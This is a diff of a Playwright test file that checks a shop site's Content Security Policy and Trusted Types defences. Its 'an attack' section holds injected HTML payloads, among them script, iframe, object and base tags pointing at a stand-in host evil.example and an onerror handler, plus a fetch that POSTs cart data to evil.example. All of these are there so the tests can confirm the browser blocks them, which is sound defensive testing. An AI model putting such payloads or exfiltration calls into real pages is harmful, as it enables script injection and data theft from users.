@@ -3,15 +3,15 @@ import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
 import { cards, cartLink, choose, expect, search, test as shop } from './shop';
 
-/** With what the browser refused, on all pages: the directive and what went against it. */
+/** Collects the violations of the policy on all pages: the directive and what it refused. */
 const test = shop.extend<{ violations: string[] }>({
   violations: async ({ context }, use) => {
     const violations: string[] = [];
-    await context.exposeBinding('tellViolation', (_source, text: string) => violations.push(text));
+    await context.exposeBinding('reportViolation', (_source, text: string) => violations.push(text));
     await context.addInitScript(() => {
-      const { tellViolation } = window as unknown as { tellViolation: (text: string) => void };
+      const { reportViolation } = window as unknown as { reportViolation: (text: string) => void };
       addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
-        tellViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
+        reportViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
       );
     });
     await use(violations);
@@ -22,7 +22,7 @@ const panel = (page: Page) => page.getByRole('region', { name: 'Painel de QA' })
 const press = (page: Page, name: string | RegExp) => panel(page).getByRole('button', { name }).click();
 const slider = (page: Page) => page.getByRole('slider', { name: 'Linha do tempo' });
 
-test('a whole walk goes against nothing', async ({ page, violations, alerts }) => {
+test('a walk through the shop violates nothing', async ({ page, violations, alerts }) => {
   await page.goto('/');
   await choose(page, /Organizar por/, 'Mais vendidos');
   await page.getByRole('tab', { name: 'Canecas' }).click();
@@ -49,7 +49,7 @@ test('a whole walk goes against nothing', async ({ page, violations, alerts }) =
   expect(violations).toEqual([]);
 });
 
-test('a walk through the QA panel goes against nothing', async ({ page, violations }) => {
+test('a walk through the QA panel violates nothing', async ({ page, violations }) => {
   await page.goto('/?qa');
   await expect(panel(page)).toHaveCSS('position', 'fixed'); // Its styles are there.
   await search(page, 'Número 2');
@@ -75,13 +75,13 @@ test('a walk through the QA panel goes against nothing', async ({ page, violatio
   expect(violations).toEqual([]);
 });
 
-test.describe('what is planted', () => {
+test.describe('an attack', () => {
   test.use({ announced: /./ });
 
-  /** What became of an attack that the page itself makes: 'done', or the name of the error that it threw. */
+  /** Lets the page run an attack. Returns 'done', or the name of the error. */
   const attempt = (page: Page, code: 'eval' | 'innerHTML' | 'handler' | 'address') =>
     page.evaluate(
-      // In a task of its own: what the test's own protocol runs may evaluate texts.
+      // In another task, because code of the test's protocol may evaluate texts.
       (what) =>
         new Promise<string>((resolve) =>
           setTimeout(() => {
@@ -100,46 +100,54 @@ test.describe('what is planted', () => {
     );
   const ran = (page: Page) => page.evaluate(() => 'planted' in window);
 
-  for (const [code, error] of [
-    ['eval', 'EvalError'],
-    ['innerHTML', 'TypeError'],
-    ['handler', 'TypeError'],
-    ['address', 'TypeError'],
-  ] as const)
-    test(`${code} is refused`, async ({ page, violations }) => {
-      await page.goto('/');
-      expect(await attempt(page, code)).toBe(error);
-      expect(await ran(page)).toBe(false);
-      await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
-    });
-
-  for (const [what, html, directive] of [
-    ['an inline script', '<script>planted = 1</script>', 'script-src-elem inline'],
-    ['a handler', '<img src="data:," onerror="planted = 1">', 'script-src-attr inline'],
-    ['a script from elsewhere', '<script src="https://evil.example/a.js"></script>', 'script-src-elem https'],
-    ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src https'],
-    ['an inline style', '<style>h1 { color: red }</style>', 'style-src-elem inline'],
-    ['a style attribute', '<p style="color: red"></p>', 'style-src-attr inline'],
-    ['a plugin', '<object data="https://evil.example/"></object>', 'object-src https'],
-    ['another base', '<base href="https://evil.example/">', 'base-uri https'],
-  ] as const)
-    test(`in the page, ${what} is refused`, async ({ page, violations }) => {
-      await page.route('/', async (route) => {
-        const response = await route.fetch();
-        const body = (await response.text()).replace('</head>', `</head>${html}`);
-        await route.fulfill({ response, body });
+  test('scripts that the page itself would run are refused', async ({ page, violations }) => {
+    for (const [code, error] of [
+      ['eval', 'EvalError'],
+      ['innerHTML', 'TypeError'],
+      ['handler', 'TypeError'],
+      ['address', 'TypeError'],
+    ] as const)
+      await test.step(code, async () => {
+        await page.goto('/');
+        violations.length = 0;
+        expect(await attempt(page, code)).toBe(error);
+        expect(await ran(page)).toBe(false);
+        await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
       });
-      await page.goto('/');
-      expect(await ran(page)).toBe(false);
-      expect(violations.join('\n')).toContain(directive);
+  });
+
+  test('markup that is planted into the page is refused', async ({ page, violations }) => {
+    let planted = '';
+    await page.route('/', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</head>', `</head>${planted}`);
+      await route.fulfill({ response, body });
     });
+    for (const [html, directive] of [
+      ['<script>planted = 1</script>', 'script-src-elem inline'],
+      ['<img src="data:," onerror="planted = 1">', 'script-src-attr inline'],
+      ['<script src="https://evil.example/a.js"></script>', 'script-src-elem https'],
+      ['<iframe src="https://evil.example/"></iframe>', 'frame-src https'],
+      ['<style>h1 { color: red }</style>', 'style-src-elem inline'],
+      ['<p style="color: red"></p>', 'style-src-attr inline'],
+      ['<object data="https://evil.example/"></object>', 'object-src https'],
+      ['<base href="https://evil.example/">', 'base-uri https'],
+    ] as const)
+      await test.step(directive, async () => {
+        planted = html;
+        violations.length = 0;
+        await page.goto('/');
+        expect(await ran(page)).toBe(false);
+        expect(violations.join('\n')).toContain(directive);
+      });
+  });
 
   test('a request to elsewhere is refused', async ({ page, violations }) => {
     await page.goto('/');
-    const told = await page.evaluate(() =>
+    const answer = await page.evaluate(() =>
       fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
     );
-    expect(told).toContain('TypeError');
+    expect(answer).toContain('TypeError');
     expect(violations.join()).toContain('connect-src https://evil.example/');
   });
 
@@ -201,7 +209,7 @@ test.describe('answers', () => {
     'referrer-policy',
   ];
 
-  test('of every page carry the whole policy, which no page holds itself', async ({ request }) => {
+  test('carry the whole policy, and no page contains it', async ({ request }) => {
     for (const path of ['/', '/cart', '/product/unknown', '/nowhere', '/index.html']) {
       const answer = await request.get(path);
       for (const name of PAGE) expect(answer.headers(), path).toHaveProperty(name);
